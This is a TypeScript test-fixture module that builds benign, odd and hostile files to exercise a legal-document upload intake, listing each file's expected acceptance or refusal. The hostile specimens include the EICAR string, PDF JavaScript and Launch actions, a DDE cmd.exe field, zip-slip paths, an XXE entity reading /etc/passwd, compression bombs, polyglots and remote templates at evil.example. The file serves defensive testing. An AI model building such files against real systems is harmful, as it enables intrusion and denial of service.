/**
 * Files made in memory to try the intake with: good ones of every format, odd ones that people really have, and hostile ones. Each
 * says what must become of it. For tests and drills only; nothing here runs when a file is taken in.
 */
import { deflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import type { FileFlag } from './inspect/outcome.ts';
import { type Member, zip } from './inspect/specimens/archive.ts';
import { mp3, mp4, pagedTif, picture, pngClaiming } from './inspect/specimens/media.ts';
import {
  compound,
  doc,
  docx,
  ofd,
  ofdText,
  paragraph,
  pictureParagraph,
  relation,
  xls,
} from './inspect/specimens/office.ts';
import { encryptedPdf, onePage, rawPdf, stream } from './inspect/specimens/pdf.ts';
import type { Format } from './limits.ts';
import type { FileRefusalCode } from './refusals.ts';

/** What must become of a file: one of these refusals, or acceptance with these flags and a view that holds these words. */
export type Fate =
  | { readonly refused: readonly FileRefusalCode[] }
  | {
      readonly format: Format;
      readonly flags: readonly FileFlag[];
      /** Pages of the view; 0 where the format has none. */
      readonly pages: number;
      readonly words: readonly string[];
    };

export interface Specimen {
  /** What it is, for the name of the test. */
  readonly what: string;
  /** The name under which it is sent. */
  readonly name: string;
  readonly bytes: Buffer;
  readonly fate: Fate;
}

const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

const refused = (
  what: string,
  name: string,
  bytes: Buffer | string,
  ...codes: FileRefusalCode[]
): Specimen => ({
  what,
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
  fate: { refused: codes },
});

const taken = (
  what: string,
  name: string,
  bytes: Buffer,
  format: Format,
  pages: number,
  words: readonly string[] = [],
  flags: readonly FileFlag[] = [],
): Specimen => ({ what, name, bytes, fate: { format, flags, pages, words } });

async function pdfOf(pages: number, objectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.create();
  for (let page = 1; page <= pages; page++) document.addPage().drawText(`Page ${page}`, { x: 50, y: 700 });
  return Buffer.from(await document.save({ useObjectStreams: objectStreams }));
}

async function workbook(): Promise<Buffer> {
  const { default: ExcelJS } = await import('exceljs');
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('损失清单');
  sheet.addRows([
    ['项目', '金额（元）'],
    ['医疗费', 12_345.67],
    ['合计', { formula: 'B2', result: 12_345.67 }],
  ]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

async function good(): Promise<Specimen[]> {
  const png = await picture('png');
  const pictureMember: Member = { name: 'word/media/image1.png', data: png, stored: true };
  const table =
    '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>原告</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>张三</w:t></w:r></w:p></w:tc></w:tr></w:tbl>';
  const body =
    paragraph('民事起诉状', '<w:jc w:val="center"/>', '<w:b/><w:sz w:val="44"/>') +
    paragraph('事实与理由') +
    table +
    pictureParagraph +
    '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' +
    paragraph('此致');
  return [
    taken('three pages', '起诉状.pdf', await pdfOf(3, false), 'pdf', 3, ['Page 1', 'Page 3']),
    taken('object streams', '起诉状.pdf', await pdfOf(2, true), 'pdf', 2, ['Page 2']),
    taken('upper-case extension', '起诉状.PDF', await pdfOf(1, true), 'pdf', 1, ['Page 1']),
    taken('no extension', '起诉状', await pdfOf(1, true), 'pdf', 1, ['Page 1']),
    taken(
      'headings, table, picture, page break',
      '起诉状.docx',
      docx(body, {
        relations: relation('image', 'media/image1.png', false),
        members: [pictureMember],
      }),
      'docx',
      2,
      ['民事起诉状', '事实与理由', '原告', '张三', '此致'],
    ),
    taken(
      'words that are typst source',
      '代码.docx',
      docx(paragraph('#import "x.typ" $x$ *a* ]#eval("1")')),
      'docx',
      1,
      ['#import', '#eval'],
    ),
    taken(
      'a local template as Word notes it',
      '模板.docx',
      docx(paragraph('正文'), {
        relations: relation('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
      }),
      'docx',
      1,
      ['正文'],
      ['office-link'],
    ),
    taken('Word 97', '答辩状.doc', compound(doc('民事答辩状\r答辩人：李四\r')), 'doc', 1, [
      '民事答辩状',
      '李四',
    ]),
    taken('Excel', '清单.xlsx', await workbook(), 'xlsx', 1, ['损失清单', '医疗费', '12345.67']),
    taken(
      'Excel 97',
      '清单.xls',
      xls([
        ['诉讼费', 50],
        ['合计', 50],
      ]),
      'xls',
      1,
      ['诉讼费', '50'],
    ),
    taken('OFD', '判决书.ofd', ofd(ofdText('民事判决书')), 'ofd', 1, ['民事判决书']),
    taken('jpg', '照片.jpg', await picture('jpeg'), 'jpg', 1),
    taken('jpeg', '照片.jpeg', await picture('jpeg'), 'jpg', 1),
    taken('png', '截图.png', png, 'png', 1),
    taken('tif of three pages', '扫描.tif', await pagedTif(3), 'tif', 3),
    taken('mp3', '录音.mp3', mp3(), 'mp3', 0),
    taken(
      'mp3 with a tag',
      '录音.mp3',
      Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\x0a', 'latin1'), Buffer.alloc(10), mp3()]),
      'mp3',
      0,
    ),
    taken('mp4', '录像.mp4', mp4(), 'mp4', 0),
  ];
}

async function oddities(): Promise<Specimen[]> {
  const pdf = await pdfOf(1, true);
  const jpg = await picture('jpeg');
  return [
    taken('U+202E in the name', '合同\u202efdp.exe.pdf', pdf, 'pdf', 1, [], ['odd-name']),
    taken('a path as name', '../../etc/合同.pdf', pdf, 'pdf', 1, [], ['odd-name']),
    taken('double extension, program first', '合同.exe.pdf', pdf, 'pdf', 1, [], ['odd-name']),
    taken(
      'a phone that appends to its jpg',
      '照片.jpg',
      Buffer.concat([jpg, Buffer.alloc(500, 0x41)]),
      'jpg',
      1,
      [],
      ['trailing-bytes'],
    ),
    taken('padding after the end', '合同.pdf', Buffer.concat([pdf, Buffer.from('\n\0\0\n')]), 'pdf', 1),
    taken(
      'printing restricted, no password to open',
      '回单.pdf',
      encryptedPdf(''),
      'pdf',
      1,
      [],
      ['pdf-restricted'],
    ),
    taken(
      'arrays ten thousand deep',
      '合同.pdf',
      rawPdf(onePage({ catalog: `/X ${'['.repeat(10_000)}${']'.repeat(10_000)}` })),
      'pdf',
      1,
      [],
      ['pdf-rebuilt'],
    ),
    taken(
      'hyperlink',
      '证据.docx',
      docx(paragraph('链接'), { relations: relation('hyperlink', 'https://example.cn/') }),
      'docx',
      1,
      ['链接'],
      ['office-link'],
    ),
    taken(
      'embedded workbook',
      '证据.docx',
      docx(paragraph('附表'), { members: [{ name: 'word/embeddings/a.xlsx', data: await workbook() }] }),
      'docx',
      1,
      ['附表'],
      ['office-embedded'],
    ),
    taken(
      'OFD attachment',
      '附件.ofd',
      ofd(ofdText('见附件'), [{ name: 'Doc_0/Attachments.xml', data: '<Attachments/>' }]),
      'ofd',
      1,
      ['见附件'],
      ['archive-attachment'],
    ),
    taken(
      'DDE field',
      '证据.docx',
      docx(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:t>正文</w:t></w:r></w:p>',
      ),
      'docx',
      1,
      ['正文'],
      ['office-field'],
    ),
  ];
}

function activePdfs(): Specimen[] {
  const js = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const attachment = (content: Buffer | string) => [
    '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
    stream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(content)),
  ];
  const names = '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>';
  const active = (what: string, flag: FileFlag, parts: Parameters<typeof onePage>[0]) =>
    taken(what, '合同.pdf', rawPdf(onePage(parts)), 'pdf', 1, flag === 'pdf-xfa' ? [] : ['Hello'], [flag]);
  return [
    active('JavaScript on opening', 'pdf-javascript', { catalog: `/OpenAction ${js}` }),
    active('JavaScript by name', 'pdf-javascript', {
      catalog: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`,
      objects: [js],
    }),
    active('JavaScript of a page', 'pdf-javascript', { page: `/AA << /O 5 0 R >>`, objects: [js] }),
    active('JavaScript of a link', 'pdf-javascript', {
      page: '/Annots [5 0 R]',
      objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>`, js],
    }),
    active('Launch', 'pdf-launch', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    active('form that sends itself', 'pdf-launch', {
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://x/) >> >>]',
    }),
    active('attachment', 'pdf-attachment', { catalog: names, objects: attachment('MZ') }),
    active('XFA form', 'pdf-xfa', {
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      objects: [stream('', '<xdp/>')],
    }),
    refused(
      'EICAR in a packed attachment',
      '合同.pdf',
      rawPdf(onePage({ catalog: names, objects: attachment(eicar) })),
      'files.virus',
    ),
  ];
}

async function hostilePdfs(): Promise<Specimen[]> {
  const pdf = await pdfOf(2, false);
  const archive = zip([{ name: 'a.txt', data: 'x' }]);
  const twice = deflateSync(deflateSync(zeros(64)));
  const flood = stream(
    '/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
    deflateSync(zeros(1)),
  );
  return [
    refused('password to open', '合同.pdf', encryptedPdf('secret'), 'files.encrypted'),
    refused('cut in the middle', '合同.pdf', pdf.subarray(0, pdf.length / 2), 'files.truncated'),
    refused('only a header', '合同.pdf', '%PDF-1.7\n', 'files.truncated'),
    refused('cross-references in a circle', '合同.pdf', rawPdf(onePage(), { prev: 'self' }), 'files.broken'),
    refused('cross-references into nowhere', '合同.pdf', rawPdf(onePage(), { prev: 99 }), 'files.broken'),
    refused(
      'page tree in a circle',
      '合同.pdf',
      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
      'files.broken',
      'files.unsafe',
    ),
    refused(
      'no pages',
      '合同.pdf',
      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
      'files.broken',
    ),
    refused(
      'claims a million pages',
      '合同.pdf',
      rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>']),
      'files.broken',
      'files.too-many-pages',
    ),
    refused('PDF and ZIP in one', '合同.pdf', Buffer.concat([pdf, archive]), 'files.polyglot'),
    refused(
      'script before the header',
      '合同.pdf',
      Buffer.concat([Buffer.from('<script>x</script>'), pdf]),
      'files.polyglot',
    ),
    refused(
      'a picture before the header',
      '合同.jpg',
      Buffer.concat([Buffer.from('GIF89a/*'), pdf]),
      'files.polyglot',
    ),
    refused('EICAR as it is', '合同.pdf', Buffer.concat([pdf, Buffer.from(eicar)]), 'files.virus'),
    refused(
      'content deflated twice',
      '合同.pdf',
      rawPdf(onePage({ contents: stream('/Filter [/FlateDecode /FlateDecode]', twice) })),
      'files.bomb',
    ),
    refused(
      'content of a gigabyte',
      '合同.pdf',
      rawPdf(onePage({ contents: stream('/Filter /FlateDecode', deflateSync(zeros(800))) })),
      'files.bomb',
      'files.unsafe',
    ),
    refused(
      'picture of 2,500 megapixels',
      '合同.pdf',
      rawPdf(onePage({ page: '/Resources << /XObject << /I 5 0 R >> >>', objects: [flood] })),
      'files.too-many-pixels',
    ),
    refused(
      'noise',
      '合同.pdf',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 0xa7), Buffer.from('\n%%EOF')]),
      'files.truncated',
      'files.broken',
    ),
  ];
}

function hostileArchives(): Specimen[] {
  const text = paragraph('正文');
  const withMember = (member: Member) => docx(text, { members: [member] });
  const inner = zip([{ name: 'b.zip', data: zip([{ name: 'c', data: zeros(1) }]) }]);
  const whole = docx(text);
  const entity = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w>&b;</w>';
  return [
    refused('climbing name', 'a.docx', withMember({ name: '../../evil.sh', data: 'x' }), 'files.bad-archive'),
    refused(
      'climbing with backslashes',
      'a.docx',
      withMember({ name: '..\\..\\evil.bat', data: 'x' }),
      'files.bad-archive',
    ),
    refused(
      'absolute name',
      'a.docx',
      withMember({ name: '/etc/cron.d/evil', data: 'x' }),
      'files.bad-archive',
    ),
    refused('drive letter', 'a.docx', withMember({ name: 'C:\\evil.bat', data: 'x' }), 'files.bad-archive'),
    refused(
      'OFD that climbs',
      'a.ofd',
      ofd(ofdText('x'), [{ name: 'Doc_0/../../evil', data: 'x' }]),
      'files.bad-archive',
    ),
    refused(
      'symbolic link',
      'a.docx',
      withMember({ name: 'word/link', data: '/etc/passwd', mode: 0o120777 }),
      'files.bad-archive',
    ),
    refused(
      'the same member twice',
      'a.docx',
      zip([
        { name: 'word/document.xml', data: '<a/>' },
        { name: 'word/document.xml', data: '<b/>' },
      ]),
      'files.bad-archive',
    ),
    refused(
      'encrypted member',
      'a.docx',
      withMember({ name: 'word/secret.xml', data: 'x', flags: 1 }),
      'files.encrypted',
    ),
    refused(
      'a bomb of 150 MB',
      'a.docx',
      withMember({ name: 'word/media/a.bin', data: zeros(150) }),
      'files.bomb',
    ),
    refused(
      'a bomb that lies about its size',
      'a.docx',
      withMember({ name: 'word/media/a.bin', data: zeros(50), claimedSize: 100 }),
      'files.bomb',
      'files.broken',
    ),
    refused(
      'archive in archive in archive',
      'a.docx',
      withMember({ name: 'word/a.zip', data: inner }),
      'files.bomb',
    ),
    refused(
      'six thousand members',
      'a.docx',
      zip(Array.from({ length: 6_000 }, (_, i) => ({ name: `m${i}`, data: '' }))),
      'files.bomb',
    ),
    refused(
      'members that overlap',
      'a.docx',
      zip(
        Array.from({ length: 50 }, (_, i) => ({
          name: `m${i}`,
          data: Buffer.alloc(3_000, 'abc'),
          stored: true,
        })),
        { overlap: true },
      ),
      'files.bomb',
      'files.bad-archive',
      'files.broken',
    ),
    refused('cut archive', 'a.docx', whole.subarray(0, whole.length - 40), 'files.truncated'),
    refused(
      'something after the archive',
      'a.docx',
      Buffer.concat([whole, Buffer.from('<script>')]),
      'files.polyglot',
    ),
    refused(
      'something before the archive',
      'a.docx',
      Buffer.concat([Buffer.from('MZ'), whole]),
      'files.type-unknown',
      'files.mislabelled',
    ),
    refused(
      'PDF in the comment',
      'a.docx',
      docx(text, { comment: Buffer.from('%PDF-1.7') }),
      'files.polyglot',
    ),
    refused('EICAR in a plain ZIP', 'a.zip', zip([{ name: 'a.com', data: eicar }]), 'files.virus'),
    refused(
      'EICAR in a docx',
      'a.docx',
      withMember({ name: 'word/media/x.bin', data: eicar }),
      'files.virus',
    ),
    refused('a plain ZIP', 'a.zip', zip([{ name: 'a.txt', data: 'x' }]), 'files.type-unknown'),
    refused('macro', 'a.docx', withMember({ name: 'word/vbaProject.bin', data: 'x' }), 'files.macro'),
    refused(
      'macro type',
      'a.docx',
      docx(text, { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      'files.macro',
    ),
    refused(
      'template from the web',
      'a.docx',
      docx(text, { relations: relation('attachedTemplate', 'http://evil.example/t.dotm') }),
      'files.remote-template',
    ),
    refused(
      'template from a share',
      'a.docx',
      docx(text, { relations: relation('attachedTemplate', '\\\\10.0.0.1\\s\\t.dotm') }),
      'files.remote-template',
    ),
    refused(
      'object from the web',
      'a.docx',
      docx(text, { relations: relation('oleObject', 'https://evil.example/o') }),
      'files.remote-template',
    ),
    refused(
      'entities',
      'a.docx',
      withMember({ name: 'word/document.xml', data: entity }),
      'files.unsafe-markup',
    ),
    refused(
      'entities in UTF-16',
      'a.docx',
      withMember({ name: 'word/document.xml', data: Buffer.from(`\ufeff${entity}`, 'utf16le') }),
      'files.unsafe-markup',
    ),
    refused(
      'OFD that reads a file',
      'a.ofd',
      ofd('', [
        {
          name: 'Doc_0/Document.xml',
          data: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        },
      ]),
      'files.unsafe-markup',
    ),
    refused(
      'Word 97 with macros',
      'a.doc',
      compound({ ...doc('x'), Macros: Buffer.alloc(10) }),
      'files.macro',
    ),
    refused('Word 97 with a password', 'a.doc', compound(doc('x', 0x0100)), 'files.encrypted'),
    refused(
      'Word with a password',
      'a.docx',
      compound({ EncryptionInfo: Buffer.alloc(64), EncryptedPackage: Buffer.alloc(5_000) }),
      'files.encrypted',
    ),
    refused('cut Word 97', 'a.doc', compound(doc('x')).subarray(0, 1_200), 'files.truncated', 'files.broken'),
    refused(
      'a compound file of another kind',
      'a.doc',
      compound({ Other: Buffer.alloc(5_000) }),
      'files.type-unknown',
      'files.mislabelled',
    ),
  ];
}

async function hostileMedia(): Promise<Specimen[]> {
  const jpg = await picture('jpeg');
  const png = await picture('png');
  const film = mp4();
  const archive = zip([{ name: 'a.txt', data: 'x' }]);
  return [
    refused('0 bytes', '空.pdf', '', 'files.empty'),
    refused('pixel flood', '图.png', pngClaiming(50_000, 50_000), 'files.too-many-pixels'),
    refused('cut jpg', '图.jpg', jpg.subarray(0, jpg.length / 2), 'files.truncated', 'files.broken'),
    refused('cut png', '图.png', png.subarray(0, png.length / 2), 'files.truncated', 'files.broken'),
    refused('cut mp4', '录像.mp4', film.subarray(0, film.length - 100), 'files.truncated'),
    refused(
      'a tag and no sound',
      '录音.mp3',
      'ID3\x03\0\0\0\0\0\x0aaaaaaaaaaabbbbbbbb',
      'files.broken',
      'files.type-unknown',
    ),
    refused('jpg with a ZIP behind', '图.jpg', Buffer.concat([jpg, archive]), 'files.polyglot'),
    refused(
      'png with a page behind',
      '图.png',
      Buffer.concat([png, Buffer.from('<html><script>x</script>')]),
      'files.polyglot',
    ),
    refused('GIF and script', '图.jpg', Buffer.from('GIF89a/*\0\0\0\0*/=1;alert(1)'), 'files.mislabelled'),
    refused('SVG', '图.svg', svg, 'files.type-unknown'),
    refused('SVG as png', '图.png', svg, 'files.mislabelled'),
    refused('page as pdf', '合同.pdf', '<!DOCTYPE html><script>x</script>', 'files.mislabelled'),
    refused(
      'program as pdf',
      '合同.pdf',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]),
      'files.mislabelled',
      'files.type-unknown',
    ),
    refused(
      'program',
      '合同.pdf.exe',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]),
      'files.type-unknown',
    ),
    refused('PDF named as program', '合同.pdf.exe', await pdfOf(1, true), 'files.mislabelled'),
    refused('jpg named pdf', '合同.pdf', jpg, 'files.mislabelled'),
    refused('docx named doc', '合同.doc', docx(paragraph('x')), 'files.mislabelled'),
    refused('webp', '图.jpg', await picture('webp'), 'files.mislabelled'),
    refused('text', '说明.txt', 'plain words', 'files.type-unknown'),
    refused('only zeros', '合同.pdf', zeros(1), 'files.type-unknown', 'files.mislabelled'),
    refused('EICAR alone', 'eicar.com', eicar, 'files.virus'),
  ];
}

/** Every specimen, made anew. */
export async function corpus(): Promise<readonly Specimen[]> {
  return [
    ...(await good()),
    ...(await oddities()),
    ...activePdfs(),
    ...(await hostilePdfs()),
    ...hostileArchives(),
    ...(await hostileMedia()),
  ];
}
